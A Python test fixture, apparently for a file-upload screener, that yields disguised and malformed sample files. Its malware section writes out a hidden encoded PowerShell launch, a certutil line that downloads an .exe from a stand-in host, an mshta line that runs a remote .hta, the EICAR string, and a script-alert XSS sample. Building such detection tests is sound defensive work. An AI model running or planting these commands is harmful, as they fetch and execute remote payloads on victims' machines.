"""What comes under the name of a text or a table and is none."""

from collections.abc import Iterator

from tests.letters.screening.table.samples import Bad
from tests.world import files

SCRIPT = (
    b"function run(){ var x = new XMLHttpRequest(); x.open('GET','/a'); return x; }\nrun();\n" * 5
)
POWERSHELL = (
    b"param([string]$Path)\r\nGet-ChildItem -Path $Path -Recurse | ForEach-Object {\r\n"
    b"  Write-Host $_.FullName\r\n}\r\nfunction Get-Thing { [CmdletBinding()] param() }\r\n"
) * 4
PHP = b"<?php\n$db = new PDO('sqlite:a');\nforeach ($db->query('x') as $row) { echo $row[0]; }\n"
HTML = "<!DOCTYPE html><html><body>Dzień dobry</body></html>"


def bad_texts() -> Iterator[Bad]:
    for what, name, data, detected in _active():
        yield Bad(what, name, data, "F-MAGIC", detected)
    for what, data in _garbage():
        yield Bad(what, "krzaki.txt", data, "F-MAGIC")
    for what, data in _malware():
        yield Bad(what, "pismo.txt", data, "F-VIRUS")
    for name in ("pusty.txt", "pusty.csv", "pusty.pdf", "pusty.zip", "pusty.exe"):
        yield Bad("nothing at all", name, b"", "F-EMPTY")


def _active() -> Iterator[tuple[str, str, bytes, str]]:
    yield "a page", "strona.txt", HTML.encode(), "HTML"
    yield "a page in a table", "strona.csv", HTML.encode("cp1250"), "HTML"
    yield "a page in UTF-16", "strona.txt", HTML.encode("utf-16"), "HTML"
    yield "a page behind a mark of UTF-8", "strona.txt", HTML.encode("utf-8-sig"), "HTML"
    yield "a script in a page's words", "a.txt", b"Dzie\n<script >alert(1)</script>", "HTML"
    yield "a frame", "a.txt", b"tekst <iframe src=x></iframe>", "HTML"
    yield "a drawing", "a.txt", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "SVG"
    yield "XML", "dane.csv", b'<?xml version="1.0"?><a/>', "XML"
    yield "PHP", "a.txt", PHP, "PHP"
    yield "a server page", "a.txt", b"<%@ Page Language=C# %>", "PHP"
    yield "a shell script", "a.txt", b"#!/bin/sh\necho ala\n", "SH"
    yield "a shell script in UTF-16", "a.txt", "#!/bin/sh\necho ala\n".encode("utf-16"), "SH"
    yield "commands of Windows", "a.csv", b"@echo off\r\ndir\r\n", "BAT"
    yield "a link", "a.txt", b"[InternetShortcut]\r\nURL=http://example.pl\r\n", "URL"
    yield "JavaScript", "a.csv", SCRIPT, "JS"
    yield "PowerShell", "a.txt", POWERSHELL, "PS1"


def _garbage() -> Iterator[tuple[str, bytes]]:
    yield "zero bytes", b"\x00\x01\x02 ala"
    yield "bytes of no code page", b"\x81\x83 bez sensu"
    yield "half a character of UTF-16", b"\xff\xfe\x00"
    yield "UTF-16 without its mark", "Dzień dobry".encode("utf-16-le")
    yield "a lone surrogate in UTF-16", b"\xff\xfe" + b"\x00\xd8" + b"a\x00"
    yield "commands of a terminal", b"tekst \x1b[31m\x07 dalej"
    yield "bytes by chance", bytes((7 * n * n + 3) % 256 for n in range(999))


def _malware() -> Iterator[tuple[str, bytes]]:
    yield "the test virus", files.EICAR
    yield "the test virus after a sentence", files.SENTENCE.encode() + files.EICAR
    hidden = b"powershell.exe -w hidden -enc " + b"QUJDREVG" * 8
    yield "a hidden command", b"start " + hidden + b"\r\n"
    yield "a command that fetches", b"certutil -urlcache -f http://example.pl/a.exe a.exe\r\n"
    yield "a page that runs by its address", b"mshta http://example.pl/a.hta\r\n"
